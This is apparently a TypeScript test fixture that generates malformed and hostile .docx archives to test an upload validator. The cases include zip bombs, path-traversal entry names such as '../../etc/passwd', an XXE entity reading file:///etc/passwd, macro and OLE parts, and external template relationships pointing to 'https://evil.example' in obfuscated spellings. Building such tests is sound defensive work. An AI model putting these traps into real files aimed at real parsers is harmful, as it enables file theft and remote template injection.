import { randomBytes } from 'node:crypto'
import { crc32 } from 'node:zlib'
import { contentTypesXml, docxParts, relationships, sampleDocx } from '../support/sample-files.ts'
import { writeZip, type ZipOptions, type ZipPart } from '../support/write-zip.ts'
import { type BadFile, bad } from './bad-file.ts'

const megabyte = 1024 * 1024
const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const external = (kind: string) =>
  relationships(
    `<Relationship Id="r1" Type="${office}/${kind}" Target="https://evil.example/t.dotm" TargetMode="External"/>`,
  )

const withParts = (...more: ZipPart[]) => sampleDocx(more)
const replacing = (name: string, content: string | undefined, options?: ZipOptions) =>
  writeZip(
    docxParts().flatMap((part) => (part.name !== name ? [part] : content === undefined ? [] : [{ ...part, content }])),
    options,
  )
/** Incompressible, so that the compressible part beside it does not exceed the ratio limit. */
const noise: ZipPart = { name: 'word/media/noise.bin', content: randomBytes(64 * 1024) }
const endless = (tag: string) => tag.repeat((4 * megabyte) / tag.length)
const filler = (count: number, bytes: number): ZipPart[] =>
  Array.from({ length: count }, (_, index) => ({ name: `word/media/${index}.bin`, content: Buffer.alloc(bytes) }))

/** A field of an entry: its number, its length, what it says. */
function field(id: number, ...content: Buffer[]): Buffer {
  const head = Buffer.alloc(4)
  head.writeUInt16LE(id)
  head.writeUInt16LE(Buffer.concat(content).length, 2)
  return Buffer.concat([head, ...content])
}
const long = (value: number) => {
  const bytes = Buffer.alloc(8)
  bytes.writeBigUInt64LE(BigInt(value))
  return bytes
}
const sumOf = (text: string) => {
  const bytes = Buffer.alloc(4)
  bytes.writeUInt32LE(crc32(text))
  return bytes
}

/** Archives that are no document, no longer a document, or a trap. */
export function* badDocx(): Iterable<BadFile> {
  const file = (title: string, bytes: Buffer) => bad(title, 'docx', bytes)
  yield file('a part of 33 MB', withParts(...filler(1, 33 * megabyte)))
  yield file('parts of 120 MB together', withParts(...filler(5, 24 * megabyte)))
  yield file('a part three hundred times its packed size', withParts(...filler(1, 12 * megabyte)))
  yield file('1100 parts', withParts(...filler(1_100, 1)))
  yield file('a part that claims four gigabytes', withParts({ name: 'a', content: 'a', claims: { bytes: 0xfffffffe } }))
  yield file(
    'a part that unpacks to more than it claims',
    withParts({ name: 'a', content: Buffer.alloc(megabyte), claims: { bytes: 10 } }),
  )
  yield file(
    'a part that unpacks to less than it claims',
    withParts({ name: 'a', content: 'a', claims: { bytes: 100 } }),
  )
  yield file('a wrong checksum', withParts({ name: 'a', content: 'abc', claims: { crc: 1 } }))
  yield file('parts that share their bytes', withParts({ name: 'a', content: 'a', claims: { headerAt: 0 } }))
  const listAt = sampleDocx().readUInt32LE(sampleDocx().length - 6)
  yield file(
    'two parts that are the same bytes',
    withParts({ name: 'a', content: 'abc' }, { name: 'b', content: 'abc', claims: { headerAt: listAt } }),
  )
  yield file('a part beyond the end', withParts({ name: 'a', content: 'a', claims: { headerAt: 9_999_999 } }))
  yield file(
    'two parts beyond the end',
    withParts(
      ...['a', 'b'].map((name, index) => ({ name, content: 'a', claims: { headerAt: 9_999_999 + index * 99 } })),
    ),
  )
  yield file('an encrypted part', withParts({ name: 'a', content: 'a', claims: { flags: 1 } }))
  yield file('an unknown packing', withParts({ name: 'a', content: 'a', claims: { method: 12 } }))
  yield file('strong encryption', withParts({ name: 'a', content: 'a', claims: { flags: 0x41 } }))
  yield file(
    'a part that gives its size in another field',
    withParts({ name: 'a', content: 'a', claims: { bytes: 0xffffffff }, extra: field(1, long(1)) }),
  )
  yield file(
    'a part that gives its place in another field',
    withParts({ name: 'a', content: 'a', claims: { headerAt: 0xffffffff }, extra: field(1, long(0)) }),
  )
  yield file(
    'a part with a second name',
    withParts({
      name: 'word/a.bin',
      content: 'a',
      extra: field(0x7075, Buffer.from([1]), sumOf('word/a.bin'), Buffer.from('word/vbaProject.bin')),
    }),
  )
  yield file('fields that do not end', withParts({ name: 'a', content: 'a', extra: field(1).fill(0xff) }))
  yield file(
    'a stored part of another size than it claims',
    withParts({ name: 'a', content: 'abc', claims: { method: 0, packedBytes: 2 } }),
  )
  yield file('something behind the list', sampleDocx([], { behindList: Buffer.from('PK\x06\x07<html>') }))
  yield file('a list that lies elsewhere', sampleDocx([], { listAt: 0 }))
  yield file('a list longer than it is', sampleDocx([], { listBytes: 20 }))
  yield file('the same part twice', withParts({ name: 'WORD/document.xml', content: 'a' }))
  for (const name of ['../../etc/passwd', '/etc/passwd', 'word/../../a', '..\\a', 'C:\\a', 'a\0.xml', ''])
    yield file(`a part named ${JSON.stringify(name)}`, withParts({ name, content: 'a' }))
  yield file('more entries than it counts', sampleDocx([], { entries: 1 }))
  yield file('fewer entries than it counts', sampleDocx([], { entries: 9 }))
  yield file('no entries', writeZip([]))
  yield file('something in front', sampleDocx([], { before: Buffer.from('PK\x03\x04<html>') }))
  yield file('a program in front', sampleDocx([], { before: Buffer.from('MZ\x90\0') }))
  yield file('a page as comment', sampleDocx([], { comment: Buffer.from('<html><script>alert(1)</script>') }))
  yield file('no list of types', replacing('[Content_Types].xml', undefined))
  yield file(
    'a list of types that opens tags and closes none',
    writeZip([
      ...docxParts().filter(({ name }) => name !== '[Content_Types].xml'),
      noise,
      {
        name: '[Content_Types].xml',
        content: endless('<Override '),
      },
    ]),
  )
  yield file(
    'an external frame behind tags that are never closed',
    withParts(noise, { name: 'word/_rels/a.rels', content: endless('<Relationship ') + external('frame') }),
  )
  yield file('no text', replacing('word/document.xml', undefined))
  yield file('a text that is none', replacing('word/document.xml', 'words'))
  for (const type of ['spreadsheetml.sheet.main+xml', 'presentationml.presentation.main+xml'])
    yield file(
      `the type ${type}`,
      replacing('[Content_Types].xml', contentTypesXml(`application/vnd.openxmlformats-officedocument.${type}`)),
    )
  yield file(
    'the type of a document with macros',
    replacing('[Content_Types].xml', contentTypesXml('application/vnd.ms-word.document.macroEnabled.main+xml')),
  )
  for (const name of [
    'word/vbaProject.bin',
    'word/vbaData.xml',
    'word/activeX/activeX1.xml',
    'word/embeddings/oleObject1.bin',
    'word/media/run.exe',
    'word/run.js',
    'macros/a.bin',
  ])
    yield file(`the part ${name}`, withParts({ name, content: 'a' }))
  yield file(
    'nested entities',
    replacing('word/document.xml', '<!DOCTYPE d [<!ENTITY a "aaaa">]><document>&a;</document>'),
  )
  yield file(
    'entities in another part',
    withParts({ name: 'word/styles.xml', content: '<!ENTITY a SYSTEM "file:///etc/passwd">' }),
  )
  for (const kind of ['attachedTemplate', 'oleObject', 'frame', 'subDocument'])
    yield file(`an external ${kind}`, withParts({ name: 'word/_rels/settings.xml.rels', content: external(kind) }))
  for (const [title, spelled] of [
    ['in single quotes', external('frame').replaceAll('"', "'")],
    ['with spaces', external('frame').replace('TargetMode=', 'TargetMode = ')],
    ['letter by number', external('frame').replace('"External"', '"Ext&#x65;rn&#97;l"')],
  ] as const)
    yield file(`an external frame ${title}`, withParts({ name: 'word/_rels/settings.xml.rels', content: spelled }))
  yield file(
    'an external frame in another coding',
    withParts({ name: 'word/_rels/settings.xml.rels', content: Buffer.from(`\ufeff${external('frame')}`, 'utf16le') }),
  )
  yield file('an archive of something else', writeZip([{ name: 'index.html', content: '<script>alert(1)</script>' }]))
  yield file('a Java archive', writeZip([{ name: 'META-INF/MANIFEST.MF', content: 'Main-Class: A' }]))
  yield file('an archive of an archive', writeZip([{ name: 'a.docx', content: sampleDocx() }]))
}
